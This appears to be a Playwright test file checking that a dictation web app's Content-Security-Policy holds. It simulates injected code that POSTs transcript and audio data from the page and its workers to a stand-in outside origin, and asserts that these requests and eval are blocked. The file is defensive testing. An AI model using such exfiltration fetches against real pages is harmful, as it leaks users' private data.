import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { expect, type Page, test } from '@playwright/test';
import { SERVERS } from '../../playwright.config';
import { CONTENT_SECURITY_POLICY, CONTENT_SECURITY_POLICY_HEADER } from '../../src/shared/sw-protocol';
import { dictate, launch, openReady } from './browser';

/**
 * Another origin that would gladly accept the data (CORS and CORP allow
 * everything), so only the Content-Security-Policy stands between injected
 * code and it: every request that reaches it is a leak.
 */
const OTHER_PORT = 4181;
const OTHER_ORIGIN = `http://127.0.0.2:${OTHER_PORT}`;

interface Violation {
  directive: string;
  blocked: string;
}

let other: Server;
const leaked: string[] = [];

test.beforeAll(async () => {
  other = createServer((req, res) => {
    leaked.push(req.url ?? '');
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' });
    res.end('received');
  });
  await new Promise<void>((resolve) => other.listen(OTHER_PORT, '127.0.0.2', resolve));
});

test.afterAll(() => {
  other.close();
});

/** Records every CSP violation the page reports, from its first script on. */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: { directive: string; blocked: string }[] = [];
    (window as unknown as { __violations: typeof seen }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
  });
}

/**
 * Runs eval('1') from a timer, i.e. as the page's (or worker's) own code: code
 * evaluated through DevTools, as Playwright's evaluate is, may bypass the policy.
 */
function evalFromOwnTask(): Promise<string> {
  return new Promise((resolve) =>
    setTimeout(() => {
      try {
        // biome-ignore lint/security/noGlobalEval: this test checks that the policy refuses it
        resolve(String(eval('1')));
      } catch (error) {
        resolve((error as Error).name);
      }
    }, 0),
  );
}

function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);
}

for (const [name, url] of [
  ['isolated server (policy as a header)', SERVERS.isolated],
  ['plain static server (policy from the <meta> and the service worker)', SERVERS.plain],
] as const) {
  test(`CSP on the ${name}: the app works, other origins and eval are blocked`, async () => {
    const browser = await launch({ wav: 'dictation-44k.wav' });
    const { page } = browser;
    try {
      await recordViolations(page);
      await openReady(page, url);
      // The whole app (service worker, workers, WebAssembly, worklet, threads when isolated) runs
      // under the policy without tripping it.
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
      expect(await dictate(page, 6)).not.toBe('');
      expect(await violations(page)).toEqual([]);

      // Injected code on the page: a fetch to another origin is refused and reported.
      const target = `${OTHER_ORIGIN}/page?audio=1`;
      const outcome = await page.evaluate(async (u) => {
        try {
          await fetch(u, { method: 'POST', body: 'transcript' });
          return 'sent';
        } catch (error) {
          return `blocked: ${error}`;
        }
      }, target);
      expect(outcome).toMatch(/^blocked/);
      // Reported once per policy in force (the <meta> and the header both are).
      await expect.poll(async () => (await violations(page)).length, { timeout: 5_000 }).toBeGreaterThan(0);
      for (const violation of await violations(page)) {
        expect(violation).toEqual({ directive: 'connect-src', blocked: target });
      }
      // No string becomes code.
      const evalResult = await page.evaluate(evalFromOwnTask);
      expect(evalResult).toBe('EvalError');

      // The same in the workers that hold the audio: their policy comes from their own script's response.
      const workers = page.workers();
      expect(workers.length).toBeGreaterThanOrEqual(2);
      for (const worker of workers) {
        const fromWorker = await worker.evaluate(async (u) => {
          try {
            await fetch(u, { method: 'POST', body: 'audio' });
            return 'sent';
          } catch {
            return 'blocked';
          }
        }, `${OTHER_ORIGIN}/worker`);
        expect(fromWorker, worker.url()).toBe('blocked');
        expect(await worker.evaluate(evalFromOwnTask), worker.url()).toBe('EvalError');
      }
      expect(leaked).toEqual([]);

      // Documents the service worker serves carry the policy as a header too.
      const reloaded = await page.reload();
      expect(reloaded?.fromServiceWorker()).toBe(true);
      expect(await reloaded?.headerValue('content-security-policy')).toBe(CONTENT_SECURITY_POLICY_HEADER);
    } finally {
      await browser.close();
    }
  });
}

test("npm start's server sends the policy on every response, and the build carries it as a <meta>", async ({
  request,
}) => {
  const html = await (await request.get(SERVERS.isolated)).text();
  const paths = [
    '',
    'sw.js',
    'manifest.webmanifest',
    ...[...html.matchAll(/(?:src|href)="\.\/([^"]+)"/g)].map((m) => m[1]),
  ];
  expect(paths.length).toBeGreaterThan(4);
  for (const path of paths) {
    const response = await request.get(SERVERS.isolated + path);
    expect(response.ok(), path).toBe(true);
    expect(response.headers()['content-security-policy'], path).toBe(CONTENT_SECURITY_POLICY_HEADER);
  }
  // The <meta> comes before any script or stylesheet, and there are no inline scripts.
  const built = readFileSync('dist/index.html', 'utf8');
  const meta = built.indexOf(`<meta http-equiv="Content-Security-Policy" content="${CONTENT_SECURITY_POLICY}" />`);
  expect(meta).toBeGreaterThan(0);
  expect(meta).toBeLessThan(built.search(/<script|<link rel="stylesheet"/));
  const scripts = [...built.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
  expect(scripts.length).toBeGreaterThan(0);
  for (const script of scripts) expect(script).toMatch(/\bsrc=/);
  expect(built).not.toMatch(/\son[a-z]+=/i);
  // Hosts that read _headers get the same policy.
  expect(readFileSync('dist/_headers', 'utf8')).toContain(
    `Content-Security-Policy: ${CONTENT_SECURITY_POLICY_HEADER}\n`,
  );
});
